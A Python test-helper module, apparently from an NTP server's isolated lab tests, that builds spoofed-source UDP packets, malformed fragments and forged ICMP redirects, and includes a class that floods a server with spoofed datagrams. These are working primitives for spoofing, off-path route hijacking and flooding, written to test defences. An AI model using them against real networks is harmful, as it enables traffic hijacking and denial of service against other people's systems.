"""Packets with somebody else's source address: what an attacker can send who does not control the server.

Only inside the lab: raw sockets of a lab host, and a router that leads nowhere else.
"""

from __future__ import annotations

import ipaddress
import socket
import struct
import threading
from types import TracebackType
from typing import Self

from tests.lab.net import Host

_ICMP, _UDP = 1, 17
_REDIRECT, _FOR_HOST = 5, 1
_FRAGMENT = 44
_MORE_FRAGMENTS = 0x2000
_HOPS = 64


def datagram(
    source: str,
    destination: str,
    payload: bytes,
    *,
    source_port: int = 123,
    port: int = 123,
    wrong_checksum: bool = False,
    first_fragment: bool = False,
) -> bytes:
    """An IP packet with a UDP datagram (RFC 791, RFC 8200, RFC 768), whoever `source` is.

    Args:
        source, destination: addresses of one family.
        payload: UDP payload.
        source_port, port: from and to.
        wrong_checksum: the receiver's kernel throws it away, after its firewall has counted it.
        first_fragment: say that more fragments follow, which never come (RFC 791 §3.2, RFC 8200 §4.5).
    """
    sender, receiver = ipaddress.ip_address(source), ipaddress.ip_address(destination)
    length = 8 + len(payload)
    udp = struct.pack("!HHHH", source_port, port, length, 0) + payload
    pseudo = sender.packed + receiver.packed + struct.pack("!II", length, _UDP)
    # A checksum that comes out as zero is sent as all ones: zero means "none" (RFC 768).
    checksum = _checksum(pseudo + udp) or 0xFFFF
    if wrong_checksum:
        checksum = checksum ^ 0x5555 or 0x5555
    udp = udp[:6] + struct.pack("!H", checksum) + payload
    if first_fragment:
        udp = udp[: len(udp) // 8 * 8]  # fragments but the last are multiples of 8 bytes
    if sender.version == 4:
        # The kernel fills in total length, identification and header checksum (raw(7)).
        flags = _MORE_FRAGMENTS if first_fragment else 0
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, flags, _HOPS, _UDP, 0, sender.packed, receiver.packed)
    elif first_fragment:
        extension = struct.pack("!BBHI", _UDP, 0, 1, 0x5EED)
        header = struct.pack("!IHBB16s16s", 6 << 28, 8 + len(udp), _FRAGMENT, _HOPS, sender.packed, receiver.packed)
        header += extension
    else:
        header = struct.pack("!IHBB16s16s", 6 << 28, length, _UDP, _HOPS, sender.packed, receiver.packed)
    return header + udp


def redirect(gateway: str, better: str, server: str, claimed: str) -> bytes:
    """An ICMP redirect (RFC 792): as from the server's gateway, "for `claimed` use `better`".

    It quotes a datagram from the server's port 123, which is all that Linux wants before it believes: an off-path
    attacker knows or guesses every byte (Feng et al., "Off-Path Network Traffic Manipulation via Revitalized ICMP
    Redirect Attacks", USENIX Security 2022). ICMPv6 asks for a hop limit of 255 (RFC 4861 §8.1), which nobody off the
    link can make arrive.
    """
    told, victim = ipaddress.ip_address(server).packed, ipaddress.ip_address(claimed).packed
    inner = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 76, 0, 0, _HOPS, _UDP, 0, told, victim)
    inner = inner[:10] + struct.pack("!H", _checksum(inner)) + inner[12:] + struct.pack("!HHHH", 123, 123, 56, 0)
    message = struct.pack("!BBH4s", _REDIRECT, _FOR_HOST, 0, ipaddress.ip_address(better).packed) + inner
    message = message[:2] + struct.pack("!H", _checksum(message)) + message[4:]
    source = ipaddress.ip_address(gateway).packed
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, _HOPS, _ICMP, 0, source, told) + message


class Flood:
    """Sends one datagram again and again in somebody else's name; a context manager that stops it.

    Example:
        with Flood(attacker, verifier.ipv4, target.ipv4, client_request(1), per_second=40) as flood:
            flood.await_sent(80)
    """

    def __init__(self, attacker: Host, claimed: str, server: str, payload: bytes, *, per_second: float) -> None:
        """Prepares it; nothing is sent before `with`.

        Args:
            attacker: host that really sends.
            claimed: source address that the packets carry.
            server: who gets them, at port 123.
            payload: UDP payload.
            per_second: how many.
        """
        self._attacker = attacker
        self._server = server
        self._packet = datagram(claimed, server, payload)
        self._interval_s = 1 / per_second
        self._sent = 0
        self._changed = threading.Condition()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name=f"flood-{attacker.name}")

    def __enter__(self) -> Self:
        family = socket.AF_INET6 if ":" in self._server else socket.AF_INET
        self._socket = self._attacker.call(lambda: socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW))
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, traceback: TracebackType | None
    ) -> None:
        self._stop.set()
        self._thread.join()
        self._socket.close()

    def await_sent(self, packets: int, timeout_s: float = 30.0) -> None:
        """Returns when so many packets are out.

        Raises:
            TimeoutError: not in that time.
        """
        with self._changed:
            if not self._changed.wait_for(lambda: self._sent >= packets, timeout_s):
                raise TimeoutError(f"{self._sent} of {packets} packets were sent in {timeout_s} s")

    def _run(self) -> None:
        while not self._stop.wait(self._interval_s):
            self._socket.sendto(self._packet, (self._server, 0))
            with self._changed:
                self._sent += 1
                self._changed.notify_all()


def _checksum(octets: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    padded = octets + bytes(len(octets) % 2)
    total = sum(int.from_bytes(padded[at : at + 2], "big") for at in range(0, len(padded), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
